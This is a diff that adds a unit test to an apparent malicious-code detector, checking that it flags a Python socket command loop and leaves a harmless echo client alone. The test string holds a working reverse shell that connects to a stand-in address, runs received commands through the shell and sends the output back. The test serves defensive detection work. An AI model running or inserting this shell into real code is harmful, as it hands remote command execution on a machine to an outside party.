@@ -238,3 +238,14 @@ def test_never_crashes_and_report_is_consistent(text: str, field: str) -> None:
     assert report["verdict"] == ("malicious" if result.detected else "benign")
     for f in result.findings:
         assert 0 <= f.start <= f.end <= len(text)
+
+
+def test_python_command_loop_over_socket() -> None:
+    code = (
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 8443))\nwhile True:\n"
+        "    cmd = s.recv(1024).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n"
+        "    s.send(out.stdout)\n"
+    )
+    assert "python_socket_command_loop" in _rules(_detect(code, "code_response"))
+    echo = "import socket\ns = socket.socket()\ns.connect(('example.com', 7))\ns.send(b'hi')\nprint(s.recv(10))\n"
+    assert not _detect(echo, "code_response").detected
